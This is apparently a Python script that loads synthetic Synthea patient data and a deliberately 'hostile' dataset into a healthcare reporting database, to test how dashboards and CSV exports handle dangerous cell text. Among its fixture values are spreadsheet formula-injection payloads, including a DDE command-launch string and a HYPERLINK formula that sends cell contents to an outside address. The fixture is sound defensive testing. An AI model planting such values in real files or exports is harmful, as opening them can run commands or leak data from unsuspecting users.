#!/usr/bin/python3
"""Fill a database that has the extension with the dashboard test data.

Loads two generated Synthea samples with tools/uhc-load: a main one and a small second
one, with different seeds so that no patient id repeats. Adds a small dataset named
"hostile" whose procedure descriptions and organization names start like spreadsheet
formulas or contain quotes, commas, line breaks and non-ASCII text. Registers the
clients UHC (UnitedHealthcare) and AETNA (Aetna) and refreshes. The second sample is
loaded last and refreshed on its own, so the summaries of the other datasets come from
a full refresh and its own from an incremental one.

Connection settings come from the libpq environment (PGHOST, PGPORT, PGUSER).
"""
import argparse
import os
import subprocess
import sys

import psycopg2

REPO = os.path.dirname(os.path.dirname(os.path.dirname(os.path.abspath(__file__))))

# Text cells of the hostile dataset. Each starts like a formula or needs CSV quoting.
HOSTILE_DESCRIPTIONS = [
    '=HYPERLINK("http://example.invalid/?x="&A1,"open")',
    "+1+2",
    "-2+3 (procedure)",
    "@SUM(A1:A9)",
    "\tTab-led procedure",
    "\rCarriage-return-led procedure",
    'Comma, "quoted" and\nline break',
    "Zürich – 東京 procedure",
    "'Already quoted procedure",
]
HOSTILE_ORGANIZATIONS = [
    "=cmd|' /C calc'!A0",
    "+Plus Clinic",
    "-Minus Clinic",
    "@At Clinic",
    "\tTab Clinic",
    "\rReturn Clinic",
    'Clinic, "North"\r\nWing',
    "Café Münster",
    "Plain Clinic",
]


def generate_and_load(work, name, seed, patients, dbname):
    folder = os.path.join(work, name)
    subprocess.run([sys.executable, os.path.join(REPO, "tools", "synthea_sample.py"),
                    "--layout", "3.1", "--patients", str(patients), "--seed", str(seed),
                    "--out", folder], check=True, stdout=subprocess.DEVNULL)
    subprocess.run([os.path.join(REPO, "tools", "uhc-load"), "--quiet", "--dbname", dbname,
                    "--dataset", name, folder], check=True, stdout=subprocess.DEVNULL)


def uuid_for(kind, n):
    return "00000000-0000-4000-8000-%04x%08x" % (kind, n)


def insert_hostile(cur):
    """Insert the dataset "hostile": one UnitedHealthcare encounter per hostile cell."""
    cur.execute("INSERT INTO uhc_reporting.datasets (dataset_name, synthea_layout) "
                "VALUES ('hostile', '3.3+') RETURNING dataset_id")
    dataset_id = cur.fetchone()[0]
    payer = uuid_for(1, 1)
    cur.execute("INSERT INTO uhc_reporting.payers (dataset_id, id, name) VALUES (%s, %s, %s)",
                (dataset_id, payer, "UnitedHealthcare"))
    patient = uuid_for(2, 1)
    cur.execute("INSERT INTO uhc_reporting.patients (dataset_id, id, birthdate) "
                "VALUES (%s, %s, '1980-05-05')", (dataset_id, patient))
    for n, (description, organization) in enumerate(zip(HOSTILE_DESCRIPTIONS, HOSTILE_ORGANIZATIONS)):
        org = uuid_for(3, n)
        encounter = uuid_for(4, n)
        # 23:30 UTC on the last day of a month: the UTC date and month differ from
        # the local ones in every time zone east of UTC.
        start = "2023-%02d-%02dT23:30:00Z" % (n + 1, [31, 28, 31, 30, 31, 30, 31, 31, 30][n])
        cur.execute("INSERT INTO uhc_reporting.organizations (dataset_id, id, name) VALUES (%s, %s, %s)",
                    (dataset_id, org, organization))
        cur.execute("INSERT INTO uhc_reporting.encounters (dataset_id, id, start, patient, organization, "
                    "payer, encounterclass, base_encounter_cost) "
                    "VALUES (%s, %s, %s, %s, %s, %s, 'ambulatory', 10.00)",
                    (dataset_id, encounter, start, patient, org, payer))
        cur.execute("INSERT INTO uhc_reporting.procedures (dataset_id, source_line, start, patient, "
                    "encounter, code, description, base_cost) VALUES (%s, %s, %s, %s, %s, %s, %s, %s)",
                    (dataset_id, n + 2, start, patient, encounter, "=%d" % n if n == 0 else str(1000 + n),
                     description, "-1.50" if n == 2 else "%d.25" % (n + 1)))
    return dataset_id


def main():
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--dbname", required=True)
    parser.add_argument("--work", required=True, help="scratch folder for the generated CSV files")
    parser.add_argument("--patients", type=int, default=120,
                        help="patients of the main sample (about 100 procedures each)")
    args = parser.parse_args()

    generate_and_load(args.work, "main", 11, args.patients, args.dbname)
    conn = psycopg2.connect(dbname=args.dbname)
    conn.autocommit = True
    cur = conn.cursor()
    cur.execute("SELECT uhc_reporting.create_client('UHC', 'UnitedHealthcare', ARRAY['UnitedHealthcare'])")
    cur.execute("SELECT uhc_reporting.create_client('AETNA', 'Aetna', ARRAY['Aetna'])")
    with conn:
        insert_hostile(cur)
    cur.execute("SELECT uhc_reporting.refresh()")
    conn.close()
    # Loaded after the full refresh: uhc-load refreshes only this dataset.
    generate_and_load(args.work, "second", 12, max(2, args.patients // 10), args.dbname)


if __name__ == "__main__":
    main()
